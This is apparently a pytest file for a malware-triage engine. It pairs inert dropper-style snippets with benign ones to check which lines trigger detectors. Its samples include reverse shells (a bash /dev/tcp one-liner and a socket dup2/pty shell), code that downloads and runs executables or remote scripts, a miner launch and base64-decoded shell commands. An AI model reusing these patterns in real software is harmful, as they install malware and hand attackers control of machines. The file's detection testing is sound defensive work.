"""Network-operation detectors: exact (indicator, line) pairs on malicious and benign snippets.

Snippets are modelled on real droppers but inert: addresses are documentation ranges
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) or names under example.com / .invalid.
"""

from __future__ import annotations

import pytest

from tests.conftest import pairs, run_engine
from triage.indicators.hosts import HostKind, classify, defang, describe, find_endpoints

ACCESS = "code_accessing_server_with_suspicious_domain"
BINARY = "code_download_executable_or_binary_file"
PAYLOAD = "code_download_payload"
SCRIPT = "code_download_script_file"
SHELL = "code_establishing_reverse_shell"
GEO = "code_geolocation_lookup"
MINING = "code_connect_mining_pool"
TLS = "code_disable_tls_verification"


def conf(result, indicator: str) -> dict[int, float]:
    """{start line: confidence} of one indicator's signals."""
    out = {}
    for s in result.signals:
        if s.indicator == indicator:
            path = s.statement_id.rsplit(":", 2)[0]
            out[s.start_line or result.indices[path].get(s.statement_id).start_line] = \
                s.confidence
    return out


# ---------------------------------------------------------------- hosts.py
@pytest.mark.parametrize(("text", "kind"), [
    ("http://203.0.113.7:8080/c", HostKind.RAW_IP),
    ("https://discord.com/api/webhooks/1/x", HostKind.WEBHOOK),
    ("https://pastebin.com/raw/abc", HostKind.PASTE),
    ("https://x1.ngrok-free.app/", HostKind.TUNNEL),
    ("https://q1.oastify.com", HostKind.OAST),
    ("http://box.duckdns.org/", HostKind.DYNAMIC_DNS),
    ("https://ipinfo.io/json", HostKind.GEOLOCATION),
    ("stratum+tcp://pool.supportxmr.com:3333", HostKind.MINING_POOL),
    ("https://cdn.discordapp.com/attachments/1/2/a.exe", HostKind.FILE_SHARING),
    ("https://files.pythonhosted.org/packages/x.whl", HostKind.BENIGN),
    ("http://192.168.1.5/", HostKind.PRIVATE_IP),
])
def test_classify_urls(text, kind):
    (ep,) = find_endpoints(text)
    assert kind in ep.kinds


def test_bare_hosts_only_when_asked():
    assert find_endpoints("version 1.2.3.4") == ()
    (ep,) = find_endpoints("203.0.113.9:4444", bare=True)
    assert (ep.host, ep.port, ep.kinds) == ("203.0.113.9", 4444, frozenset({HostKind.RAW_IP}))
    assert classify("evil.example.tk") == frozenset({HostKind.ODD_TLD})


def test_defang_and_token_redaction():
    assert defang("get http://a.example.com/x from 203.0.113.5") == \
        "get hxxp://a.example[.]com/x from 203.0.113[.]5"
    (ep,) = find_endpoints("https://discord.com/api/webhooks/" "123456789012345678/SECRETtoken")
    assert "SECRET" not in describe(ep) and "<token>" in describe(ep)


# ---------------------------------------------------------------- suspicious server
def test_suspicious_server_raw_ip_tunnel_and_aliases():
    src = '''\
        import requests, socket
        from requests import get as fetch

        def docs():
            return requests.get("https://docs.example.com/api")

        r = fetch("http://203.0.113.7:8080/cfg")
        s = socket.socket()
        s.connect(("x1.trycloudflare.com", 4444))
        post = getattr(requests, "po" + "st")
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, ACCESS) == {(ACCESS, 7), (ACCESS, 9)}
    assert conf(res, ACCESS)[7] >= 0.8


def test_suspicious_server_obfuscated_host():
    src = '''\
        import base64, urllib.request
        HOST = base64.b64decode("aHR0cDovL2MyLmV4YW1wbGUuY29tL3g=").decode()
        urllib.request.urlopen(HOST)
        '''
    assert pairs(run_engine({"pkg/__init__.py": src}), ACCESS) == {(ACCESS, 3)}


def test_suspicious_server_benign_api_client():
    src = '''\
        import requests

        API = "https://api.example.com/v1"

        def repos(user):
            return requests.get(f"{API}/users/{user}/repos", timeout=5).json()
        '''
    assert pairs(run_engine({"client/api.py": src}), ACCESS) == set()


# ---------------------------------------------------------------- downloads
def test_download_executable_then_run():
    src = '''\
        import os, requests
        from setuptools.command.install import install

        def execute():
            url = "https://cdn.discordapp.com/attachments/1/2/tool.exe"
            response = requests.get(url)
            open("payload.exe", "wb").write(response.content)
            os.system("start payload.exe")

        class PostInstall(install):
            def run(self):
                execute()
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, BINARY) == {(BINARY, 6)}
    assert conf(res, BINARY)[6] >= 0.8
    assert pairs(res, PAYLOAD) == set()


def test_download_binary_with_powershell_command():
    src = '''\
        import subprocess
        out = "C:/Users/Public/svc.exe"
        cmd = (f"powershell -Command Invoke-WebRequest -Uri https://files.example.com/a.exe"
               f" -OutFile {out}")
        subprocess.run(cmd, shell=True)
        '''
    assert pairs(run_engine({"pkg/setup.py": src}), BINARY) == {(BINARY, 5)}


def test_download_payload_executed():
    src = '''\
        from urllib.request import urlopen as _u

        def go():
            code = _u("https://paste.example.com/raw/x").read()
            exec(code)

        go()
        tmp = b"""from urllib.request import urlopen;exec(urlopen('https://x.example.com/r').read())"""
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, PAYLOAD) == {(PAYLOAD, 4), (PAYLOAD, 8)}


def test_download_saved_renamed_and_run_is_payload():
    src = '''\
        import subprocess, requests
        remote_url = "http://198.51.100.20:1122/connect.txt"
        data = requests.get(remote_url)
        with open("local_copy.txt", "wb") as f:
            f.write(data.content)
        subprocess.Popen("cmd /c move local_copy.txt local.bat", shell=True)
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, PAYLOAD) == {(PAYLOAD, 3)}
    assert pairs(res, ACCESS) == {(ACCESS, 3)}


def test_download_script():
    src = '''\
        import subprocess, sys, urllib.request
        urllib.request.urlretrieve("https://cdn.example.com/tools/rat.py", "rat.py")
        subprocess.check_call([sys.executable, "rat.py"])
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, SCRIPT) == {(SCRIPT, 2)}
    assert pairs(res, PAYLOAD) == set()


def test_download_benign_data_file():
    src = '''\
        import json, requests

        def load_schema():
            r = requests.get("https://example.com/schema.json")
            with open("schema.json", "wb") as f:
                f.write(r.content)
            return json.loads(r.text)
        '''
    res = run_engine({"lib/schema.py": src})
    assert pairs(res, BINARY) | pairs(res, SCRIPT) | pairs(res, PAYLOAD) == set()


# ---------------------------------------------------------------- reverse shell
def test_reverse_shell_socket_dup2_pty():
    src = '''\
        import os, pty, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("192.0.2.44", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/sh")
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, SHELL) == {(SHELL, n) for n in (3, 4, 5, 6, 7)}


def test_reverse_shell_one_liner_and_popen_bound_to_socket():
    src = '''\
        import os, socket, subprocess
        os.system("bash -i >& /dev/tcp/192.0.2.5/9001 0>&1")

        def connect():
            c = socket.socket()
            c.connect(("shell.example.invalid", 443))
            subprocess.Popen(["/bin/bash", "-i"], stdin=c.fileno(), stdout=c.fileno(),
                             stderr=c.fileno())
        '''
    assert pairs(run_engine({"pkg/a.py": src}), SHELL) == {(SHELL, 2), (SHELL, 6), (SHELL, 7)}


def test_reverse_shell_benign_socket_client():
    src = '''\
        import socket, subprocess

        def ping(host):
            s = socket.create_connection((host, 80))
            s.sendall(b"HEAD / HTTP/1.0\\r\\n\\r\\n")
            return s.recv(100)

        def version():
            return subprocess.check_output(["git", "--version"])
        '''
    assert pairs(run_engine({"lib/net.py": src}), SHELL) == set()


# ---------------------------------------------------------------- geolocation, mining, TLS
def test_geolocation_own_ip():
    src = '''\
        import requests
        info = requests.get("https://ipinfo.io/json").json()
        '''
    res = run_engine({"pkg/__init__.py": src})
    assert pairs(res, GEO) == {(GEO, 2)}
    assert conf(res, GEO)[2] >= 0.5


def test_geolocation_benign_lookup_of_given_address():
    src = '''\
        import requests

        def locate(address):
            return requests.get(f"http://ip-api.com/json/{address}").json()
        '''
    assert pairs(run_engine({"tool/geo.py": src}), GEO) == set()


def test_mining_pool_and_miner():
    src = '''\
        import subprocess
        POOL = "stratum+tcp://pool.example.com:3333"
        subprocess.Popen(["./xmrig", "-o", POOL, "--donate-level", "1"])
        '''
    assert pairs(run_engine({"pkg/__init__.py": src}), MINING) == {(MINING, 2), (MINING, 3)}


def test_mining_benign_mentions():
    src = '''\
        EMOJI = {"t-rex": "\\U0001f996"}
        HELP = "this tool is not xmrig"
        '''
    assert pairs(run_engine({"pkg/emoji.py": src}), MINING) == set()


def test_tls_disabled_with_suspicious_endpoint_is_high():
    src = '''\
        import requests, ssl
        requests.post("http://198.51.100.9/up", data=open("f", "rb"), verify=False)
        ssl._create_default_https_context = ssl._create_unverified_context
        '''
    res = run_engine({"pkg/setup.py": src})
    assert pairs(res, TLS) == {(TLS, 2), (TLS, 3)}
    assert conf(res, TLS)[2] >= 0.6


def test_tls_disabled_in_library_code_is_low():
    src = '''\
        import ssl

        def context(insecure):
            ctx = ssl.create_default_context()
            if insecure:
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
            return ctx
        '''
    res = run_engine({"lib/tls.py": src})
    assert pairs(res, TLS) == {(TLS, 6), (TLS, 7)}
    assert max(conf(res, TLS).values()) < 0.3


# ---------------------------------------------------------------- calibration: any-phase cases
WRITE = "code_write_to_disk"
ENCODED = "code_execution_encoded_command"
SHELL_CMD = "code_execution_shell_command"


def test_lookalike_host_and_decoded_response_run_as_command_in_a_method():
    # modelled on a trojanised client library: a method fetches base64 text from a vendor
    # look-alike on a throwaway TLD and runs it through a shell
    src = '''\
        import base64, os, requests

        class Client:
            async def send_message(self, entity, message):
                try:
                    resp = requests.get("https://tg.aliyun-sdk.example.xyz/telegram")
                    os.system(base64.b64decode(resp.text).decode("utf-8"))
                except:
                    pass
                return entity
        '''
    res = run_engine({"pkg/client/messages.py": src})
    assert classify("tg.aliyun-sdk.example.xyz") >= {HostKind.LOOKALIKE, HostKind.ODD_TLD}
    assert pairs(res, ACCESS) == {(ACCESS, 6)}
    assert pairs(res, PAYLOAD) == {(PAYLOAD, 6)}
    assert pairs(res, ENCODED) == {(ENCODED, 7)}
    assert pairs(res, SHELL_CMD) == {(SHELL_CMD, 7)}
    assert min(conf(res, ACCESS)[6], conf(res, PAYLOAD)[6], conf(res, ENCODED)[7],
               conf(res, SHELL_CMD)[7]) >= 0.7


def test_response_used_only_as_an_argument_is_not_a_payload():
    src = '''\
        import os, subprocess, requests

        def update():
            resp = requests.get("https://api.example.com/latest")
            version = resp.json()["version"]
            subprocess.run(["pip", "install", f"tool=={version}"])
            os.system(f"echo {resp.status_code}")
        '''
    res = run_engine({"pkg/update.py": src})
    assert pairs(res, PAYLOAD) == set()
    assert pairs(res, ENCODED) == set()
    assert pairs(res, ACCESS) == set()
    assert classify("api.example.com") == frozenset()


def test_request_at_import_time_to_an_unknown_host_is_a_beacon():
    src = '''\
        # This runs on import
        import requests
        requests.get("http://beacon.example.com/init")
        requests.get("https://pypi.org/pypi/demo/json")
        requests.get("https://raw.githubusercontent.com/o/r/main/data.txt")

        def main():
            requests.get("http://beacon.example.com/main")
        '''
    res = run_engine({"pkg/init.py": src})
    assert pairs(res, ACCESS) == {(ACCESS, 3)}
    assert 0.55 <= conf(res, ACCESS)[3] < 0.7
    assert pairs(run_engine({"pkg/tests/test_live.py": src}), ACCESS) == set()


def test_interaction_host_opened_in_the_browser_from_a_helper_function():
    src = '''\
        """Post-install helper (see https://x1.oast.fun in the docs: not flagged)."""
        import threading, uuid, webbrowser
        CALLBACK = "x2.interact.sh"

        def run():
            def open_first_url():
                uid = "pkg-" + str(uuid.uuid4())
                url1 = f"https://yo1.oast.cz?ref=pkg&id={uid}"
                webbrowser.open_new_tab(url1)
            threading.Thread(target=open_first_url).start()
        '''
    res = run_engine({"pkg/_postinstall.py": src})
    assert pairs(res, ACCESS) == {(ACCESS, 3), (ACCESS, 9)}
    assert min(conf(res, ACCESS).values()) >= 0.7


def test_browser_opening_documentation_is_not_suspicious():
    src = '''\
        import webbrowser

        def docs(page):
            webbrowser.open("https://docs.example.com/" + page)
            webbrowser.open_new_tab("https://github.com/example/project")
        '''
    res = run_engine({"pkg/cli.py": src})
    assert pairs(res, ACCESS) == set()
    assert [s for s in res.signals if s.confidence >= 0.3] == []


def test_downloaded_hex_written_as_exe_in_a_function_is_high():
    src = '''\
        import binascii, getpass, requests

        def start_assessment():
            b = requests.get("https://github.com/example/x/raw/main/hehe.txt", verify=False)
            path = "C:/Users/" + getpass.getuser() + "/Documents/"
            with open(path + "c1.exe", "wb") as f:
                f.write(binascii.unhexlify(str(b.text).encode()))
        '''
    res = run_engine({"pkg/core.py": src})
    assert pairs(res, BINARY) == {(BINARY, 4)}
    assert pairs(res, WRITE) == {(WRITE, 7)}
    assert conf(res, BINARY)[4] >= 0.8 and conf(res, WRITE)[7] >= 0.7


def test_downloaded_data_saved_as_json_in_a_function_is_low():
    src = '''\
        import requests

        def refresh():
            r = requests.get("https://github.com/example/x/raw/main/data.json")
            with open("cache/data.json", "w") as f:
                f.write(r.text)
        '''
    res = run_engine({"pkg/cache.py": src})
    assert pairs(res, BINARY) == set()
    assert pairs(res, PAYLOAD) == set()
    assert all(c < 0.7 for c in conf(res, WRITE).values())


def test_verify_false_counts_only_on_http_and_tls_calls() -> None:
    """numpy passes ``verify=False`` to its own dispatch decorator; that is not TLS."""
    ind = "code_disable_tls_verification"
    src = """\
        import functools, requests, httpx
        from numpy._core import overrides
        dispatch = functools.partial(overrides.array_function_dispatch, verify=False)
        @dispatch(lambda x: (x,), verify=False)
        def fix(x):
            return x
        requests.get("https://example.invalid/a", verify=False)
        client = httpx.Client(verify=False)
        session = requests.Session()
        session.post("https://example.invalid/b", verify=False)
    """
    assert pairs(run_engine({"p/mod.py": src}), ind) == {(ind, 7), (ind, 8), (ind, 10)}
